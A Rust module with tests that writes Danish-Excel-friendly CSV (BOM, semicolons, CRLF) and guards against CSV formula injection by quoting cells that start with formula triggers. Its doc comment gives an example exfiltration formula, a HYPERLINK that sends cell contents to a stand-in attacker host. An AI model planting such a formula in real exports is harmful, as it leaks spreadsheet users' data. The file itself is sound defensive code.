//! CSV that a Danish Excel opens by double-click: UTF-8 with a byte order
//! mark (without it Excel guesses Windows-1252 and mangles æøå), `;` between
//! cells (Danish Excel uses `,` as the decimal separator, so it expects `;`
//! as the list separator), and CRLF line endings.
//!
//! Cells that a spreadsheet would read as a formula are neutralised, because
//! an export carries text that people typed themselves: a "skill" such as
//! `=HYPERLINK("http://evil.example/?"&A1;"Klik")` must reach the reader as
//! text, not run in their spreadsheet.

/// Lets Excel recognise the file as UTF-8.
const UTF8_BOM: &[u8] = "\u{feff}".as_bytes();

/// First characters that make Excel, LibreOffice or Google Sheets treat a
/// cell as a formula, or that hide such a start after whitespace (OWASP's
/// "CSV Injection" list, with line feed added for the same reason as
/// carriage return).
const FORMULA_TRIGGERS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// Writes `header` and then `rows` as one CSV file for Danish Excel.
///
/// Rows need not have as many cells as the header: a short row just ends
/// early, as Excel shows it.
pub fn write_excel_csv(header: &[&str], rows: &[Vec<String>]) -> Vec<u8> {
    let records = std::iter::once(header.iter().map(|cell| neutralise_formula(cell)).collect()).chain(
        rows.iter()
            .map(|row| row.iter().map(|cell| neutralise_formula(cell)).collect()),
    );
    write_records(records)
        .expect("writing CSV into memory cannot fail: rows may differ in length and a Vec takes any bytes")
}

fn write_records(records: impl Iterator<Item = Vec<String>>) -> csv::Result<Vec<u8>> {
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::Necessary)
        .flexible(true)
        .from_writer(UTF8_BOM.to_vec());
    for record in records {
        writer.write_record(&record)?;
    }
    writer.into_inner().map_err(|error| error.into_error().into())
}

/// Prefixes a single quote to a cell that would start a formula, so the
/// spreadsheet shows it as text.
///
/// This also catches harmless values: a phone number "+45 12 34 56 78"
/// becomes "'+45 12 34 56 78" and a negative number "-3" becomes "'-3". That
/// is intended: telling a formula from a phone number by looking is exactly
/// the guesswork an attacker exploits, and for a phone number the quote is
/// even welcome, since Excel would otherwise turn "+4512345678" into the
/// number 4512345678 and drop the plus.
fn neutralise_formula(cell: &str) -> String {
    if cell.starts_with(FORMULA_TRIGGERS) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text_without_bom(bytes: &[u8]) -> &str {
        let rest = bytes.strip_prefix(UTF8_BOM).expect("the file starts with a BOM");
        std::str::from_utf8(rest).expect("the file is UTF-8")
    }

    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(false)
            .flexible(true)
            .from_reader(bytes.strip_prefix(UTF8_BOM).expect("BOM"));
        reader
            .records()
            .map(|record| {
                record
                    .expect("a readable record")
                    .iter()
                    .map(str::to_owned)
                    .collect()
            })
            .collect()
    }

    fn row(cells: &[&str]) -> Vec<String> {
        cells.iter().map(|cell| cell.to_string()).collect()
    }

    #[test]
    fn starts_with_a_utf8_byte_order_mark() {
        let bytes = write_excel_csv(&["Navn"], &[]);
        assert_eq!(&bytes[..3], &[0xEF, 0xBB, 0xBF]);
        assert_eq!(text_without_bom(&bytes), "Navn\r\n");
    }

    #[test]
    fn separates_cells_with_semicolons_and_lines_with_crlf() {
        let bytes = write_excel_csv(
            &["Navn", "Titel"],
            &[row(&["Anne", "Socialrådgiver"]), row(&["Bo", "Jurist"])],
        );
        assert_eq!(
            text_without_bom(&bytes),
            "Navn;Titel\r\nAnne;Socialrådgiver\r\nBo;Jurist\r\n"
        );
    }

    #[test]
    fn header_is_the_first_row() {
        let bytes = write_excel_csv(&["Navn", "E-mail"], &[row(&["Anne", "anne@kommune.dk"])]);
        let records = read_back(&bytes);
        assert_eq!(records[0], row(&["Navn", "E-mail"]));
        assert_eq!(records[1], row(&["Anne", "anne@kommune.dk"]));
    }

    #[test]
    fn quotes_cells_with_semicolons_newlines_and_quotes() {
        let bytes = write_excel_csv(
            &["Felt"],
            &[
                row(&["Børn; unge"]),
                row(&["første linje\nanden linje"]),
                row(&["kaldet \"Bo\""]),
                row(&["komma, men ikke semikolon"]),
            ],
        );
        assert_eq!(
            text_without_bom(&bytes),
            "Felt\r\n\"Børn; unge\"\r\n\"første linje\nanden linje\"\r\n\"kaldet \"\"Bo\"\"\"\r\n\
             komma, men ikke semikolon\r\n"
        );
    }

    #[test]
    fn neutralises_every_formula_trigger() {
        let dangerous = [
            "=1+1",
            "+45 12 34 56 78",
            "-3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
        ];
        let rows: Vec<Vec<String>> = dangerous.iter().map(|cell| row(&[cell])).collect();
        let records = read_back(&write_excel_csv(&["Celle"], &rows));
        for (cell, record) in dangerous.iter().zip(&records[1..]) {
            assert_eq!(record[0], format!("'{cell}"), "cell {cell:?}");
        }
    }

    #[test]
    fn neutralises_formulas_in_the_header_too() {
        let records = read_back(&write_excel_csv(&["=cmd"], &[]));
        assert_eq!(records[0], row(&["'=cmd"]));
    }

    #[test]
    fn leaves_ordinary_cells_alone() {
        let ordinary = ["Anne", "12 34 56 78", "a=b", "x-y", "", " =ikke formel"];
        let rows: Vec<Vec<String>> = ordinary.iter().map(|cell| row(&[cell])).collect();
        let records = read_back(&write_excel_csv(&["Celle"], &rows));
        for (cell, record) in ordinary.iter().zip(&records[1..]) {
            assert_eq!(&record[0], cell);
        }
    }

    #[test]
    fn keeps_danish_letters_intact() {
        let bytes = write_excel_csv(&["Navn"], &[row(&["Søren Ærø Åberg"])]);
        assert!(text_without_bom(&bytes).contains("Søren Ærø Åberg"));
        assert_eq!(read_back(&bytes)[1], row(&["Søren Ærø Åberg"]));
    }

    #[test]
    fn round_trips_through_the_csv_reader() {
        let rows = vec![
            row(&[
                "Anne Marie Sørensen",
                "Børn og Familie; Myndighed",
                "anne@kommune.dk",
            ]),
            row(&["Bo \"Bassen\" Ærø", "linje 1\r\nlinje 2", ""]),
        ];
        let records = read_back(&write_excel_csv(&["Navn", "Enhed", "E-mail"], &rows));
        assert_eq!(records.len(), 3);
        assert_eq!(records[1..], rows[..]);
    }

    #[test]
    fn allows_rows_shorter_or_longer_than_the_header() {
        let rows = vec![row(&["kun navn"]), row(&["a", "b", "c"])];
        let records = read_back(&write_excel_csv(&["Navn", "Titel"], &rows));
        assert_eq!(records[1..], rows[..]);
    }
}
